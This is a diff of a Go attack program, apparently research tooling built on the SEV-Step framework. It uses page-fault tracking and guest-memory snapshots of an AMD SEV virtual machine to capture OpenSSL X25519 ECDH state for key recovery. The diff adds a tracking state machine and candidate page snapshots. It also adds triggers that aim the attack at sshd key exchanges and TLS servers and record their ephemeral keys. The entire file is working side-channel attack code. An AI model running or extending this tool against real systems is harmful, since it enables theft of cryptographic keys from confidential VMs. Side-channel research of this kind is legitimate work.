@@ -3,157 +3,75 @@
 //the "fe64_***"" functions as input
 //We toggle track between these two pages. On the first few iterations we also apply write tracking,
 //to find the GPA of the "x2" buffer from the OpenSSL code. Once we have this GPA, we take a snapshot
-//of the page on every fault
+//of the page on every fault. The tracking sequence is described by the builtin tracking machine openssl-x25519
 package main
 
 import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/gob"
 	"encoding/json"
-	"errors"
 	"flag"
 	"fmt"
 	"io"
 	"io/ioutil"
 	"log"
-	"net/http"
 	"os"
 	"os/signal"
 	"pfFingerprint"
+	"pfFingerprint/metrics"
+	"pfFingerprint/session"
+	"pfFingerprint/snapshot"
+	"pfFingerprint/trackingMachine"
+	"pfFingerprint/trigger"
 	"strconv"
-
-	"github.com/UzL-ITS/sev-step/sevStep"
+	"time"
 )
 
-type appConfig struct {
-	gpa1         uint64
-	gpa2         uint64
-	trackingType sevStep.PageTrackMode
-	ignoreCycles int
-	triggerURL   string
-	outWriter    io.Writer
-	getRIP       bool
-	cpu          int
-}
-
-func processEvent(ioctlAPI *sevStep.IoctlAPI, ev *sevStep.Event, haveWriteGPA bool, writeGPA uint64, wbinvdFlushCPU int) ([]byte, error) {
-	if haveWriteGPA {
-		mem, err := ioctlAPI.CmdReadGuestMemory(writeGPA, 4096, true, wbinvdFlushCPU)
+//newMachine creates the tracking machine, that writes the emitted events to outWriter and counts them in written
+func newMachine(ioctlAPI trackingMachine.IoctlAPI, spec *trackingMachine.Spec, opts trackingMachine.Options, outWriter io.Writer, written *metrics.Counter) (*trackingMachine.Machine, error) {
+	opts.OnEmit = func(ev *snapshot.Event) error {
+		encodedEvent, err := json.Marshal(ev)
 		if err != nil {
-			return nil, fmt.Errorf("Failed to read guest memory : %v\n", err)
-		}
-		ev.Content = mem
-		ev.MonitorGPA = writeGPA
-	}
-	encodedData, err := json.Marshal(ev)
-	if err != nil {
-		log.Printf("Failed to encode event : %v\n", ev)
-		return nil, fmt.Errorf("failed to json encode : %v", err)
-	}
-	return encodedData, nil
-}
-
-//enterFaultHandlingLoop handles fault events, creates output file. Returns gpa of stack buff for attack or error
-// Runs until ctx is cancelled. If no errors occurs pfFingerprint.ErrCtxCancelled is returned
-func enterFaultHandlingLoop(ctx context.Context, ioctlAPI *sevStep.IoctlAPI, config *appConfig) (uint64, error) {
-	gpa1CycleCount := 0
-	inCycle := false
-	//preallocate as this is used in hot loop
-	cycleLog := make([]uint64, 0, 20000)
-	haveWriteGPA := false
-	writeGPA := uint64(0)
-	var mainLoopErr error
-	var ev *sevStep.Event
-	var eventCounter = 0
-
-	defer func() {
-		log.Printf("Processed %v events\n", eventCounter)
-	}()
-
-	for {
-		ev, mainLoopErr = pfFingerprint.WaitForEventBlocking(ctx, ioctlAPI)
-		if mainLoopErr != nil {
-			break
-		}
-		//handle printing
-		switch ev.FaultedGPA {
-		case config.gpa1:
-			fallthrough
-		case config.gpa2:
-			encodedEvent, err := processEvent(ioctlAPI, ev, haveWriteGPA, writeGPA, config.cpu)
-			if err != nil {
-				return 0, fmt.Errorf("processEvent failed : %v\n", err)
-			}
-			encodedEvent = append(encodedEvent, []byte("\n")...)
-			if _, err := config.outWriter.Write(encodedEvent); err != nil {
-				return 0, fmt.Errorf("failed to write event : %v\n", err)
-			}
+			return fmt.Errorf("failed to json encode : %v", err)
 		}
-
-		//handle re-tracking
-		switch ev.FaultedGPA {
-		case config.gpa1:
-			if gpa1CycleCount == config.ignoreCycles+1 {
-				log.Printf("Write GPA is %x", cycleLog[len(cycleLog)-1])
-				inCycle = false
-				haveWriteGPA = true
-				writeGPA = cycleLog[len(cycleLog)-1]
-			}
-			//log.Printf("Exec at gpa1")
-			if err := ioctlAPI.CmdTrackPage(config.gpa2, config.trackingType); err != nil {
-				return 0, fmt.Errorf("failed to track gpa %x : %v", config.gpa2, err)
-			}
-			if gpa1CycleCount == config.ignoreCycles {
-				if err := ioctlAPI.CmdTrackAllPages(sevStep.PageTrackAccess); err != nil {
-					return 0, fmt.Errorf("failed to write track all : %v", err)
-
-				}
-				inCycle = true
-			}
-			gpa1CycleCount++
-		case config.gpa2:
-			//log.Printf("Exec at gpa2")
-			if err := ioctlAPI.CmdTrackPage(config.gpa1, config.trackingType); err != nil {
-				return 0, fmt.Errorf("failed to track gpa %x : %v", config.gpa1, err)
-			}
-		default:
-			if inCycle {
-				cycleLog = append(cycleLog, ev.FaultedGPA)
-			}
+		encodedEvent = append(encodedEvent, []byte("\n")...)
+		if _, err := outWriter.Write(encodedEvent); err != nil {
+			return fmt.Errorf("failed to write event : %v", err)
 		}
-
-		if err := ioctlAPI.CmdAckEvent(ev.ID); err != nil {
-			return 0, fmt.Errorf("failed to ack event %v : %v", ev, err)
-		}
-		eventCounter++
-	}
-
-	if !errors.Is(mainLoopErr, pfFingerprint.ErrCtxCancelled) {
-		return 0, fmt.Errorf("main loop returned error : %v", mainLoopErr)
+		written.Inc()
+		return nil
 	}
-
-	if !haveWriteGPA {
-		return 0, fmt.Errorf("did not find write gpa")
-	}
-
-	return writeGPA, nil
+	return trackingMachine.New(spec, ioctlAPI, opts)
 }
 
 func main() {
 	gpa1 := flag.Uint64("gpa1", 0, "first gpa for toggle tracking")
 	gpa2 := flag.Uint64("gpa2", 0, "second gpa for toggle tracking")
 	gpaConfig := flag.String("inConfig", "", "Set -gpa1 and -gpa2 via this text file")
-	trackingTypeParam := flag.String("tracking", "execute", "values: {access,execute}. Determines tracking type")
+	trackingTypeParam := flag.String("tracking", "execute", "values: {access,execute}. Determines tracking type of gpa1 and gpa2")
+	machinePath := flag.String("machine", "openssl-x25519", "Tracking state machine spec. Path of a JSON file or name of a builtin spec. The spec needs the input pages \"base\" and \"fe64\" and binds \"x2\"")
 	out := flag.String("out", "attack-log.txt", "output file")
 	outConfig := flag.String("outConfig", "attack-config.json", "configuration struct for attack")
 	ignoreCycles := flag.Int("ignoreCycles", 3, "Amount of cycles at start to ignore for write addr finding")
-	triggerURL := flag.String("trigger", "http://localhost:8080", "URL to trigger ecdh in VM")
+	triggerURL := flag.String("trigger", "http://localhost:8080", "URI to trigger ecdh in VM. Use ssh://user@host:port?kex=curve25519-sha256 to attack the key exchange of sshd or tls://host:port to attack a TLS server")
 	getRIP := flag.Bool("getRIP", true, "Try to get RIP for page fault events. Works only for plain VMs and debug SEV-ES VMs")
 	cpu := flag.Int("cpu", -1, "If set, perf readings are done on this cpu and wbinvd flush is executed here before memaccess")
+	snapshotCandidates := flag.Bool("snapshotCandidates", false, "Additionally snapshot the pages with write faults in the last cycle of the search phase for \"x2\" on every event. Allows to choose the buffer with \"-regionGPA\" of pfOSSLRecoverECDHKey")
+	maxCandidates := flag.Int("maxCandidates", 8, "Snapshot at most this many candidate pages. 0 means no limit")
+	pollFlags := pfFingerprint.RegisterPollFlags(flag.CommandLine)
+	metricsFlags := metrics.RegisterFlags(flag.CommandLine)
 
 	flag.Parse()
 
+	pollConfig, err := pollFlags.Config()
+	if err != nil {
+		log.Printf("%v", err)
+		flag.PrintDefaults()
+		return
+	}
+
 	if ((*gpa1 == 0 || *gpa2 == 0) && *gpaConfig == "") || ((*gpa1 != 0 || *gpa2 != 0) && *gpaConfig != "") {
 		log.Printf("Please set either gpa1 and gpa2 or gpaConfig")
 		return
@@ -195,6 +113,14 @@ func main() {
 		return
 	}
 
+	victimTrigger, err := trigger.NewTriggerFromURI(*triggerURL)
+	if err != nil {
+		log.Printf("Failed to parse trigger URI : %v", err)
+		return
+	}
+	_, isSSHTrigger := victimTrigger.(*trigger.SSHTrigger)
+	_, isTLSTrigger := victimTrigger.(*trigger.TLSTrigger)
+
 	outFile, err := os.Create(*out)
 	if err != nil {
 		log.Fatalf("Failed  to create output file : %v\n", err)
@@ -203,77 +129,118 @@ func main() {
 	outWriter := bufio.NewWriter(outFile)
 	defer outWriter.Flush()
 
-	var trackingType sevStep.PageTrackMode
+	var trackingType string
 	if *trackingTypeParam == "access" {
-		trackingType = sevStep.PageTrackAccess
+		trackingType = "access"
 	} else if *trackingTypeParam == "execute" {
-		trackingType = sevStep.PageTrackExec
+		trackingType = "exec"
 	} else {
 		log.Printf("Please set valid value for \"tracking\" param\n")
 		flag.PrintDefaults()
 		return
 	}
 
-	config := &appConfig{
-		gpa1:         *gpa1,
-		gpa2:         *gpa2,
-		trackingType: trackingType,
-		ignoreCycles: *ignoreCycles,
-		triggerURL:   *triggerURL,
-		outWriter:    outWriter,
-		getRIP:       *getRIP,
-		cpu:          *cpu,
+	spec, err := trackingMachine.LoadSpec(*machinePath)
+	if err != nil {
+		log.Printf("Failed to load tracking machine : %v", err)
+		return
+	}
+	machineOpts := trackingMachine.Options{
+		Pages:          map[string]uint64{"base": *gpa1, "fe64": *gpa2},
+		Values:         map[string]int{"ignoreCycles": *ignoreCycles},
+		InputTrackMode: trackingType,
+		WbinvdCPU:      *cpu,
+		Snapshot:       snapshot.Policy{Candidates: *snapshotCandidates, MaxCandidates: *maxCandidates},
+		Poll:           pollConfig,
 	}
 
-	ioctlAPI, err := sevStep.NewIoctlAPI("/dev/kvm", config.getRIP)
+	ioctlAPI, err := session.Open("/dev/kvm", *getRIP)
 	if err != nil {
-		log.Fatalf("Failed to init ioctl API : %v", err)
+		log.Printf("Failed to open tracking session : %v", err)
+		return
 	}
-	defer ioctlAPI.Close()
+	defer ioctlAPI.Cleanup()
 
 	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt)
 	defer cancel()
+	ioctlAPI.CloseOnDone(ctx)
 
+	registry := metrics.NewRegistry()
+	runMetrics := pfFingerprint.NewRunMetrics(registry)
+	ioctlAPI.RegisterMetrics(registry)
+	if err := metricsFlags.Serve(ctx, registry); err != nil {
+		log.Printf("%v", err)
+		return
+	}
+
+	machine, err := newMachine(ioctlAPI, spec, machineOpts, outWriter, runMetrics.EventsWritten)
+	if err != nil {
+		log.Printf("Failed to create tracking machine : %v", err)
+		return
+	}
 	log.Printf("Tracking start page 0x%016x\n", *gpa1)
-	if err := ioctlAPI.CmdTrackPage(*gpa1, trackingType); err != nil {
-		log.Printf("failed to track %x : %v", *gpa1, err)
+	if err := machine.Start(); err != nil {
+		log.Printf("Failed to start tracking machine : %v", err)
 		return
 	}
 
-	httpReplyContent := &bytes.Buffer{}
+	var triggerResult []byte
+	var triggerErr error
 
+	//the trigger only ends the run, the session stays open until main returns so Run can ack the last event
+	runCtx, runCancel := context.WithCancel(ctx)
+	defer runCancel()
 	go func() {
-		defer cancel()
+		defer runCancel()
 		log.Printf("Requesting ecdh")
-		resp, err := http.Get(*triggerURL)
-		if err != nil {
-			log.Printf("HTTP request failed : %v", err)
+		start := time.Now()
+		triggerResult, triggerErr = victimTrigger.Execute()
+		if triggerErr != nil {
+			log.Printf("Failed to execute victim trigger : %v", triggerErr)
 			return
 		}
-		//drain http body to wait until server is finished
-		if _, err := io.Copy(httpReplyContent, resp.Body); err != nil {
-			log.Printf("Failed do train http response\n")
-		}
-		if err := resp.Body.Close(); err != nil {
-			log.Printf("Failed to close http response : %v\n", err)
-		}
+		runMetrics.TriggerDuration.ObserveDuration(time.Since(start))
 		log.Printf("ecdh done\n")
 	}()
 
-	stackBufGPA, err := enterFaultHandlingLoop(ctx, ioctlAPI, config)
-	if err != nil {
-		log.Printf("fault handling loop returned error : %v", err)
+	if err := machine.Run(runCtx); err != nil {
+		log.Printf("tracking machine returned error : %v", err)
+		return
+	}
+	stackBufGPA, ok := machine.Page("x2")
+	if !ok {
+		log.Printf("Did not find write gpa")
 		return
 	}
+	log.Printf("Write GPA is %x", stackBufGPA)
 
-	if _, err := outWriter.Write(httpReplyContent.Bytes()); err != nil {
+	//for ssh and tls, the trigger result contains the ephemeral keys of the key exchange instead of a debug log
+	var sshKex *trigger.SSHSignatureMessage
+	var tlsHandshake *trigger.TLSHandshakeRecord
+	if triggerErr == nil && isSSHTrigger {
+		sshKex = &trigger.SSHSignatureMessage{}
+		if err := gob.NewDecoder(bytes.NewReader(triggerResult)).Decode(sshKex); err != nil {
+			log.Printf("Failed to decode ssh trigger result : %v", err)
+			return
+		}
+		log.Printf("ssh kex %v, server ephemeral %x\n", sshKex.KexAlgorithm, sshKex.ServerEphemeral)
+	} else if triggerErr == nil && isTLSTrigger {
+		tlsHandshake = &trigger.TLSHandshakeRecord{}
+		if err := gob.NewDecoder(bytes.NewReader(triggerResult)).Decode(tlsHandshake); err != nil {
+			log.Printf("Failed to decode tls trigger result : %v", err)
+			return
+		}
+		log.Printf("tls server key share %x\n", tlsHandshake.ServerKeyShare)
+	} else if _, err := outWriter.Write(triggerResult); err != nil {
 		log.Printf("Failed to write http reply to outfile : %v", err)
 	}
 
 	attackConfig := &pfFingerprint.OSSLAttackConfigECDH{
-		BaseGPA:     config.gpa1,
-		Fe64GPA:     config.gpa2,
-		StackBufGPA: stackBufGPA,
+		BaseGPA:      *gpa1,
+		Fe64GPA:      *gpa2,
+		StackBufGPA:  stackBufGPA,
+		SSHKex:       sshKex,
+		TLSHandshake: tlsHandshake,
 	}
 	encoded, err := json.Marshal(attackConfig)
 	if err != nil {